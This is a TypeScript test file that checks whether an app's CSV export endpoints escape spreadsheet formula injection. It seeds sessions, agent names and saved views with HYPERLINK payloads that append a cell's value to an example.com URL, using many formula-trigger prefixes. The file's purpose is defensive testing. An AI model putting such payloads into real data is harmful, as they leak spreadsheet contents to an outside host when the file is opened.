import { beforeAll, expect, it } from "vitest";
import { POST as saveView } from "@/app/api/v1/views/route";
import { call } from "@/tests/support/call";
import { parseCsv } from "@/tests/support/csv";
import { truncateAll } from "@/tests/support/database";
import * as e from "@/tests/support/events";
import { OPERATIONS } from "@/tests/support/operations";
import { browser, enterFirst } from "@/tests/support/people";
import { storeItems } from "@/tests/support/stored";

const RANGE = "from=2026-11-20T00:00:00Z&to=2026-11-21T00:00:00Z";
/** How a spreadsheet is told to run what a cell holds, in each of its ways. */
const BEGINNINGS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\r=", "\n="];
const formula = (begin: string) => `${begin}HYPERLINK("http://example.com?"&A1)`;

/** A question for each file of CSV there is, so that all of what was stored below is in it. */
const ASKED: Record<string, string> = {
  "/api/v1/audit/export": "format=csv",
  "/api/v1/costs/export": `${RANGE}&cost_centre=centre`,
  "/api/v1/metrics/export": `${RANGE}&metric=turns&step=all&group_by=agent&group_by=environment&group_by=metadata.centre`,
  "/api/v1/reconcile/export": RANGE,
  "/api/v1/sessions/export": "",
};
const FILES = OPERATIONS.filter(({ handler }) => "text/csv" in (handler.spec.produces ?? {}));

let cookie = "";
beforeAll(async () => {
  await truncateAll();
  cookie = await enterFirst();
  for (const [at, begin] of BEGINNINGS.entries()) {
    const said = formula(begin);
    const agent = e.agentOf("claude-sonnet-5", { id: said, name: said });
    await storeItems(`sesn_${at}`, [
      e.session({ id: `sesn_${at}`, title: said, agent, metadata: { centre: said } }),
      e.running(0),
      ...e.request("r", 1, [1000, 10]),
      e.usage(4, { input_tokens: 900, output_tokens: 10, list_cost: e.cents("50") }),
      e.idle(5),
    ]);
    const headers = { ...browser(cookie), "user-agent": "=1+1" };
    await call(saveView, "/x", { method: "POST", headers, json: { name: said, query: "" } });
  }
});

it("knows every file of CSV", () => {
  expect(FILES.map(({ path }) => path).sort()).toEqual(Object.keys(ASKED));
});

it.each(FILES)("$path has no cell that a spreadsheet would run", async ({ path, handler }) => {
  const { status, text } = await call(handler, `${path}?${ASKED[path]}`, {
    headers: browser(cookie),
  });
  expect(status, text).toBe(200);
  const cells = parseCsv(text).flat();
  const told = BEGINNINGS.filter((begin) => cells.includes(`'${formula(begin)}`));
  expect(told.length).toBeGreaterThan(BEGINNINGS.length / 2);
  const isRun = (cell: string) => /^[=+\-@＝＋－＠\t\r\n]/.test(cell) && Number.isNaN(Number(cell));
  expect(cells.filter(isRun)).toEqual([]);
});
